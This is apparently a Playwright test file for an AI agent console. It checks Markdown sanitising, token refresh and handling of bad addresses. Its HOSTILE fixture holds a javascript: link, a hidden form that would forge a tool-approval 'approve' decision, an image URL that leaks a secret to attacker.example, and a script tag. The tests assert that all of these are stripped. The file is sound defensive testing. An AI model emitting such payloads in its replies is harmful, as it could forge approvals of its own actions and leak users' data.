"""What the console does with hostile or awkward input: a model's Markdown that tries to be a form,
an image that would load from another host, a script or a `javascript:` link; an expired access
token in two tabs at once (one refresh, not a revoked sign-in); a console reopened after the access
token expired (the refresh cookie signs it in); a malformed address."""

from __future__ import annotations

import asyncio
from typing import Any

from playwright.async_api import Browser, Page, expect

from tests.clients.conftest import Everloop
from tests.console.conftest import new_context, sign_in, watch_errors

HOSTILE = """**bold** and [a link](https://example.com/x) and [bad](javascript:alert(1))

<form action="/v1/agents/A/sessions/S/tool-approvals/T" method="post" enctype="text/plain">
<input type="hidden" name='{"decision":"approve","reason":"' value='"}'><button>Continue</button></form>

![leak](https://attacker.example/leak?d=SECRET) <img src="https://attacker.example/x.png">

<script>window.pwned = true</script><p id="announce" style="color:red" onclick="x()">styled</p>

| a | b |
|---|---|
| 1 | 2 |
"""


async def render_markdown(page: Page, text: str) -> dict[str, Any]:
    """The console's own Markdown component, rendered in its page: what it put in the DOM."""
    result: dict[str, Any] = await page.evaluate(
        """async (text) => {
            const { html, render } = await import("/console/html.js");
            const { Markdown } = await import("/console/ui.js");
            const box = document.createElement("div");
            document.body.append(box);
            render(html`<${Markdown} text=${text} />`, box);
            const target = box.querySelector(".markdown");
            await new Promise((resolve) => {
                const done = () => target.querySelector("strong") && resolve();
                new MutationObserver(done).observe(target, { childList: true, subtree: true });
                done();
            });
            const tags = [...target.querySelectorAll("*")].map((el) => el.tagName.toLowerCase());
            const links = [...target.querySelectorAll("a")].map((a) => ({
                href: a.getAttribute("href"), rel: a.getAttribute("rel"), target: a.getAttribute("target"),
            }));
            const attributes = [...target.querySelectorAll("*")]
                .flatMap((el) => [...el.attributes].map((a) => a.name));
            const ids = [...target.querySelectorAll("[id]")].map((el) => el.id);
            return { tags, links, attributes, ids, pwned: Boolean(window.pwned), html: target.innerHTML };
        }""",
        text,
    )
    return result


async def test_a_replys_markdown_is_formatting_and_links_only(page: Page) -> None:
    leaks: list[str] = []
    page.on("request", lambda request: leaks.append(request.url) if "attacker" in request.url else None)
    await page.goto("/#/account")
    await expect(page.get_by_role("heading", name="Account")).to_be_visible()
    rendered = await render_markdown(page, HOSTILE)
    tags = set(rendered["tags"])
    assert {"strong", "a", "table", "td"} <= tags, rendered["html"]
    assert not tags & {"form", "input", "button", "img", "script", "style", "iframe"}, rendered["html"]
    assert not set(rendered["attributes"]) & {"style", "onclick", "action", "src"}, rendered["html"]
    assert rendered["pwned"] is False
    assert "announce" not in rendered["ids"]  # a reply cannot take over the console's live region
    hrefs = [link["href"] for link in rendered["links"]]
    assert "https://example.com/x" in hrefs and not any(h and h.startswith("javascript") for h in hrefs)
    assert all(link["rel"] == "noopener noreferrer nofollow" for link in rendered["links"])
    # The image is a link to follow, not a request made on render.
    assert any(h and "attacker.example/leak" in h for h in hrefs)
    assert leaks == []


async def test_two_tabs_with_an_expired_token_refresh_once_and_stay_signed_in(
    browser: Browser, everloop: Everloop
) -> None:
    context = await new_context(browser, everloop)
    await sign_in(context, everloop.email, everloop.password)
    tabs = [await context.new_page(), await context.new_page()]
    errors = [watch_errors(tab) for tab in tabs]
    for tab in tabs:
        await tab.goto("/#/account")
        await expect(tab.get_by_role("heading", name="Account")).to_be_visible()
    # The access token expires (as it does after 15 minutes): both tabs' next calls get a 401 at once.
    await context.clear_cookies(name="access_token")
    call = """async () => {
        const { api } = await import("/console/api.js");
        return Array.isArray((await api.get("v1/agents")).data);
    }"""
    answers = await asyncio.gather(*(tab.evaluate(call) for tab in tabs))
    assert answers == [True, True]
    # One refresh between them: the sign-in is intact (a spent refresh token presented twice would
    # have revoked it), so the page still works after a reload.
    await tabs[0].reload()
    await expect(tabs[0].get_by_role("heading", name="Account")).to_be_visible()
    assert (await context.request.get("/v1/agents")).status == 200
    await context.close()
    assert errors == [[], []]


async def test_a_console_reopened_after_its_access_token_expired_is_still_signed_in(
    browser: Browser, everloop: Everloop
) -> None:
    context = await new_context(browser, everloop)
    await sign_in(context, everloop.email, everloop.password)
    await context.clear_cookies(name="access_token")  # 15 minutes later; the refresh cookie is kept
    page = await context.new_page()
    errors = watch_errors(page)
    await page.goto("/#/account")
    await expect(page.get_by_role("heading", name="Account")).to_be_visible()
    await expect(page.get_by_label("Password")).to_have_count(0)
    await context.close()
    assert not errors, errors


async def test_a_malformed_address_is_no_such_page(page: Page) -> None:
    for address in ["/#/%", "/#/chat/..", "/#/agents/../x"]:
        await page.goto(address)
        await expect(page.get_by_role("alert")).to_contain_text("No such page")
    await page.goto("/#/account")
    await expect(page.get_by_role("heading", name="Account")).to_be_visible()
